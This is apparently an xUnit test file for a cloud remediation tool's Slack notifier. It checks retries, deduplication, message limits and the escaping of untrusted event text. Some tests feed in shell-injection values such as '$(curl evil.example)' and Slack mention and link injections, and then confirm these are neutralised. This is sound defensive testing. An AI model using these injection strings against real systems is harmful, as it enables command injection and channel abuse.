using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.Time.Testing;
using Remediation.Engine;
using Remediation.Engine.Ledger;
using Remediation.Engine.Notices;
using Remediation.Engine.Telemetry;
using Remediation.Guardrails;
using Xunit;

namespace Engine.Tests;

public sealed class NoticeTests
{
    private static string Record(
        string sequence,
        string status,
        string resource = "arn:aws:s3:::example-bucket",
        string oldStatus = "intent",
        string agent = "aws-cli/2",
        string gate = "",
        bool quiet = false,
        string retries = "",
        bool hasWritten = true
    ) =>
        $$"""
            {"eventName":"MODIFY","dynamodb":{"SequenceNumber":"{{sequence}}","OldImage":{"status":{"S":"{{oldStatus}}"} },
             "NewImage":{"pk":{"S":"resource#x"},"sk":{"S":"record#x"},"id":{"S":"{{RecordId.Of(
                "g",
                resource,
                "e",
                DateTimeOffset.UnixEpoch
            )}}"},"status":{"S":"{{status}}"},"guardrail":{"S":"s3-public-access-block-weakened"},
              "resource":{"S":"{{resource}}"},"account":{"S":"111122223333"},"region":{"S":"us-east-1"},"partition":{"S":"aws"},"eventId":{"S":"e"},"eventName":{"S":"PutBucketPublicAccessBlock"},"eventTime":{"S":"2026-01-02T03:04:05Z"},
              "actor":{"M":{"type":{"S":"IAMUser"},"arn":{"S":"arn:aws:iam::111122223333:user/example"},"userAgent":{"S":"{{agent}}"},"sourceIp":{"S":"192.0.2.7"} } },
              "violation":{"S":"open"},"reason":{"S":""},"plan":{"L":[]},"done":{"L":[{{(
                hasWritten ? """{"M":{"call":{"S":"s3:PutPublicAccessBlock {}"},"requestId":{"S":"r"} } }""" : null
            )}}]},"gate":{"S":"{{gate}}"},"quiet":{"BOOL":{{(
                quiet ? "true" : "false"
            )}}},"retries":{"S":"{{retries}}"},"before":{"S":"{}"},"after":{"S":"{}"} } } }
            """;

    /// <summary>A webhook that answers as it is told, over real HTTP.</summary>
    private sealed class Slack : IDisposable
    {
        private readonly HttpListener listener = new();
        private readonly Queue<(int Status, string? RetryAfter)> answers;
        public List<string> Messages { get; } = [];
        public Uri Url { get; }

        public Slack(params (int, string?)[] answers)
        {
            this.answers = new(answers);
            using (var probe = new TcpListener(IPAddress.Loopback, 0))
            {
                probe.Start();
                Url = new($"http://127.0.0.1:{((IPEndPoint)probe.LocalEndpoint).Port}/services/T0/B0/secret");
            }
            listener.Prefixes.Add($"http://127.0.0.1:{Url.Port}/");
            listener.Start();
            _ = Task.Run(async () =>
            {
                while (listener.IsListening)
                {
                    var context = await listener.GetContextAsync();
                    using var reader = new StreamReader(context.Request.InputStream, Encoding.UTF8);
                    var (status, retry) = this.answers.Count > 0 ? this.answers.Dequeue() : (200, null);
                    var body = await reader.ReadToEndAsync();
                    if (status == 200)
                        Messages.Add(body);
                    context.Response.StatusCode = status;
                    if (retry is not null)
                        context.Response.Headers["Retry-After"] = retry;
                    context.Response.Close();
                }
            });
        }

        public void Dispose() => listener.Close();
    }

    private static async Task<(List<string?> Failed, string Log)> Handle(Uri url, params string[] records)
    {
        using var output = new MemoryStream();
        using var http = new HttpClient();
        var notifier = new Notifier(
            new Webhook(http, _ => Task.FromResult(url), TimeProvider.System),
            Catalogue.All,
            new Log(output, _ => null, TimeProvider.System)
        );
        var answer = await notifier.HandleAsync(
            Encoding.UTF8.GetBytes($$"""{"Records":[{{string.Join(',', records)}}]}"""),
            TestContext.Current.CancellationToken
        );
        return (
            [.. answer["batchItemFailures"]!.AsArray().Select(f => (string?)f!["itemIdentifier"])],
            Encoding.UTF8.GetString(output.ToArray())
        );
    }

    [Fact]
    public async Task Outcomes_are_told_and_intents_are_not()
    {
        using var slack = new Slack();
        var (failed, _) = await Handle(
            slack.Url,
            Record("1", "intent", oldStatus: ""),
            Record("2", "applied"),
            Record("3", "applied", oldStatus: "applied")
        );
        Assert.Empty(failed);
        Assert.Contains("remediate undo", Assert.Single(slack.Messages), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_was_told_before_is_not_told_again()
    {
        using var slack = new Slack();
        var (failed, _) = await Handle(
            slack.Url,
            Record("1", "held", gate: "exemption", quiet: true),
            Record("2", "failed", retries: "failed"),
            Record("3", "applied", retries: "failed")
        );
        Assert.Empty(failed);
        Assert.Contains("Repaired", Assert.Single(slack.Messages), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("storm", "too many repairs", "remediate exempt add --record ")]
    [InlineData("fault", "our own repairs fail", "remediate exempt add --record ")]
    [InlineData("pause", "paused", "remediate status")]
    [InlineData("people", "Somebody must act", "remediate exempt add --record ")]
    public async Task A_hold_says_which_gate_held_and_what_to_do(string gate, string says, string command)
    {
        using var slack = new Slack();
        await Handle(slack.Url, Record("1", "held", gate: gate, hasWritten: false));
        var message = Assert.Single(slack.Messages);
        Assert.Contains(says, message, StringComparison.Ordinal);
        Assert.Contains(command, message, StringComparison.Ordinal);
        Assert.DoesNotContain("remediate undo", message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_429_is_waited_out_for_as_long_as_Slack_asks()
    {
        using var slack = new Slack((429, "1"));
        var began = DateTimeOffset.UtcNow;
        var (failed, _) = await Handle(slack.Url, Record("1", "applied"));
        Assert.Empty(failed);
        Assert.Single(slack.Messages);
        Assert.True(DateTimeOffset.UtcNow - began >= TimeSpan.FromSeconds(0.9));
    }

    [Fact]
    public async Task A_failed_notice_stops_the_batch_there_so_that_none_is_told_twice()
    {
        using var slack = new Slack((200, null), (404, null));
        var (failed, log) = await Handle(
            slack.Url,
            Record("1", "applied"),
            Record("2", "applied"),
            Record("3", "applied")
        );
        Assert.Equal(["2"], failed);
        Assert.Single(slack.Messages);
        Assert.DoesNotContain("secret", log, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_notice_that_Slack_refuses_is_counted_and_told_in_our_own_words()
    {
        const string chosen = "arn:aws:s3:::$(curl evil.example)";
        using var slack = new Slack((400, null));
        var (failed, log) = await Handle(slack.Url, Record("1", "applied", resource: chosen), Record("2", "applied"));
        Assert.Empty(failed);
        Assert.Equal(2, slack.Messages.Count);
        var minimal = (string)Assert.Single(JsonNode.Parse(slack.Messages[0])!.AsObject()).Value!;
        Assert.Matches(
            "^🔧 Repaired: [A-Za-z' ]+\\. Slack refused the notice of it; "
                + "`remediate history [0-9a-f]{12}-[0-9TZ]{16}-[0-9a-f]{10}` has all\\.$",
            minimal
        );
        Assert.Contains("\"RefusedNotices\":1", log, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_notice_that_Slack_refuses_twice_does_not_block_the_next()
    {
        using var slack = new Slack((400, null), (400, null));
        var (failed, log) = await Handle(slack.Url, Record("1", "applied"), Record("2", "applied"));
        Assert.Empty(failed);
        Assert.Single(slack.Messages);
        Assert.Contains("was refused twice and is dropped", log, StringComparison.Ordinal);
    }

    // What escaping makes longest, what is no letter, half letters, and what is empty.
    [Theory]
    [InlineData("&", 100_000)]
    [InlineData("&", 460)]
    [InlineData("<", 2_000)]
    [InlineData("_", 2_000)]
    [InlineData("`", 2_000)]
    [InlineData("\ud83d\ude00", 2_000)]
    [InlineData("x", 499)]
    [InlineData("x", 500)]
    [InlineData("x", 501)]
    [InlineData("", 1)]
    public void Slacks_limits_hold_after_escaping_whatever_anybody_chose(string sign, int times)
    {
        var chosen = string.Concat(Enumerable.Repeat(sign, times));
        var record = Recorded(chosen);
        foreach (var outcome in new[] { Outcome.Applied, Outcome.Held, Outcome.Failed, Outcome.Unclear })
        {
            var message = SlackMessage.Of(new(record with { Outcome = outcome }), guardrail: null);
            AssertFits(JsonNode.Parse(message.ToJsonString())!);
        }
    }

    [Theory]
    [InlineData("&&&&&", 14, "&amp;&amp;…")]
    [InlineData("&&", 10, "&amp;&amp;")]
    [InlineData("&&", 9, "&amp;…")]
    [InlineData("abc", 3, "abc")]
    [InlineData("abcd", 3, "ab…")]
    [InlineData("a\ud83d\ude00b", 3, "a…")]
    [InlineData("", 3, "")]
    public void A_text_is_cut_between_signs(string text, int limit, string cut)
    {
        Assert.Equal(cut, SlackText.Plain(text, limit));
        Assert.Equal($"```{cut}```", SlackText.Block(text, limit));
    }

    [Theory]
    [InlineData(Outcome.Applied)]
    [InlineData(Outcome.Held)]
    [InlineData(Outcome.Failed)]
    public void A_command_names_a_record_by_its_id_and_nothing_that_somebody_chose(string outcome)
    {
        const string chosen = "$(curl evil.example);`id`|& 'x' \"y\"";
        var message = SlackMessage.Of(new(Recorded(chosen) with { Outcome = outcome }), null).ToJsonString(Plain);
        var commands = System.Text.RegularExpressions.Regex.Matches(message, "`(remediate [^`]*)`");
        Assert.NotEmpty(commands);
        Assert.All(
            commands,
            command =>
                Assert.Matches(
                    "^remediate (undo|history|exempt add --record) [0-9a-f]{12}-[0-9TZ]{16}-[0-9a-f]{10}$",
                    command.Groups[1].Value
                )
        );
    }

    private static readonly System.Text.Json.JsonSerializerOptions Plain = new()
    {
        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    };

    // Every text of it is what somebody else chose.
    private static LedgerRecord Recorded(string chosen) =>
        new()
        {
            Id = RecordId.Of("g", chosen, "e", DateTimeOffset.UnixEpoch),
            Outcome = Outcome.Applied,
            Guardrail = chosen,
            Resource = new(chosen, chosen, $"arn:aws:iam::111122223333:user/{chosen}/x", chosen, "us-east-1", "aws"),
            EventId = chosen,
            EventName = chosen,
            EventTime = DateTimeOffset.UnixEpoch,
            Actor = new(chosen, chosen, chosen, chosen, chosen),
            Mode = Mode.Enforce,
            Violation = chosen,
            Reason = chosen,
            Plan = [chosen, chosen],
            Done = [new(chosen, chosen) { Note = chosen }],
            Before = chosen,
            After = chosen,
            Owner = chosen,
            Lease = DateTimeOffset.UnixEpoch,
            StartedAt = DateTimeOffset.UnixEpoch,
        };

    // https://api.slack.com/reference/block-kit/blocks
    private static void AssertFits(JsonNode message)
    {
        Assert.InRange(((string)message["text"]!).Length, 1, 4_000);
        Assert.InRange(message["blocks"]!.AsArray().Count, 1, 50);
        foreach (var block in message["blocks"]!.AsArray())
        {
            if ((string)block!["type"]! == "header")
            {
                Assert.InRange(((string)block["text"]!["text"]!).Length, 1, 150);
                continue;
            }
            if (block["text"] is { } text)
                Assert.InRange(((string)text["text"]!).Length, 1, 3_000);
            foreach (var field in block["fields"]?.AsArray() ?? [])
                Assert.InRange(((string)field!["text"]!).Length, 1, 2_000);
        }
    }

    [Fact]
    public async Task A_dead_Slack_is_reported_without_its_url()
    {
        Uri dead;
        using (var slack = new Slack())
            dead = slack.Url;
        var (failed, log) = await Handle(dead, Record("7", "applied"));
        Assert.Equal(["7"], failed);
        Assert.DoesNotContain("secret", log, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<!channel>")]
    [InlineData("<https://evil.example|click>")]
    [InlineData("``` *bold* ```<!here>")]
    public async Task Text_from_the_event_cannot_mention_link_or_leave_its_code_span(string evil)
    {
        using var slack = new Slack();
        await Handle(slack.Url, Record("1", "applied", agent: evil));
        var message = JsonNode
            .Parse(Assert.Single(slack.Messages))!
            .ToJsonString(new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping });
        Assert.DoesNotContain(evil, message, StringComparison.Ordinal);
        Assert.DoesNotContain("<!", message, StringComparison.Ordinal);
        Assert.DoesNotContain("<https://evil", message, StringComparison.Ordinal);
    }
}
